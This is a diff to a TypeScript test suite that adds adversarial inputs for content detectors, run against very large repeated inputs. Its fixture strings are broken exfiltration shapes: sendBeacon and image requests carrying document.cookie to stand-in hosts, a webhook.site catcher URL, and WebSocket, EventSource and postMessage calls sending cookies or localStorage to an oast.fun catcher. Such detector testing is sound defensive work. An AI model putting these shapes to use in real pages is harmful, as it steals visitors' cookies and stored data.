@@ -984,6 +984,16 @@ describe('content detectors on adversarial input', () => {
       'cookie jars sent nowhere',
       "navigator.sendBeacon('https://a.io/', document.cookie new Image().src = 'https://b.io/?c=' + parent.localStorage ",
     ],
+    // cases-68's shapes: catchers' queries and fragments of phones, addresses and base64 near misses, sockets and event
+    // streams opened with no send, messages posted to every origin without their target.
+    [
+      "catchers' phones, addresses and base64 near misses",
+      'https://webhook.site/x?t=%2B1%20%20%202-3.4+5+6%2B7%2B8&e=a%40b.example#QUJDREVGR0hJSktMTU5PUA==&iban=DE44500105175407324931X ',
+    ],
+    [
+      'sockets, event streams and posted jars without their ends',
+      'new WebSocket("wss://a.oast.fun/", s.send(btoa(encodeURIComponent( new EventSource("https://a.oast.fun/?" + postMessage({c: document.cookie postMessage(localStorage, "* ',
+    ],
   ] as const) {
     it(`the whole guard on the largest content of ${label}`, () => {
       const r = guard(rep(unit, 800_000), CONTENT_QUESTIONS);
